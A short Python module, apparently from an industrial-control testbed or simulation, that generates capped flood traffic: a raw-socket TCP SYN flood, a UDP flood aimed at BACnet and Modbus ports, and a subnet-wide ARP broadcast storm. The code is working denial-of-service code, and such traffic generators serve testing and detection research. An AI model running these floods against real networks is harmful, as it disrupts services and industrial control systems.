"""Too much of everything, but never more than `count` packets (at most 20,000)."""

import random
import socket
import time

LIMIT = 20000


def syn(life, step):
    """Connection requests without the rest, from a raw socket."""
    from scapy.all import IP, TCP
    target = life.address(step["to"])
    count = min(step.get("count", 4000), LIMIT)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        pause = step.get("seconds", 8) / count
        packets = [bytes(IP(src=life.ip, dst=target) / TCP(sport=random.randrange(1024, 65535), dport=step.get("port", 502),
                                                         flags="S", seq=random.getrandbits(32))) for _ in range(300)]
        for n in range(count):
            s.sendto(packets[n % 300], (target, 0))
            time.sleep(pause)


def udp(life, step):
    count = min(step.get("count", 4000), LIMIT)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for n in range(count):
            s.sendto(b"\x55" * step.get("bytes", 120), (life.address(step["to"]), step.get("port", 47808)))
            time.sleep(step.get("seconds", 6) / count)


def arp(life, step):
    """Broadcast requests for the whole net, again and again."""
    from scapy.all import ARP, Ether, conf, get_if_hwaddr
    own = get_if_hwaddr("eth0")
    net = life.plant.zones[life.host.zone].net
    count = min(step.get("count", 3000), LIMIT)
    s = conf.L2socket(iface="eth0")
    frames = [bytes(Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / ARP(hwsrc=own, psrc=life.ip, pdst=str(net[i % 254 + 1]))) for i in range(254)]
    for n in range(count):
        s.outs.send(frames[n % 254])
        time.sleep(step.get("seconds", 6) / count)
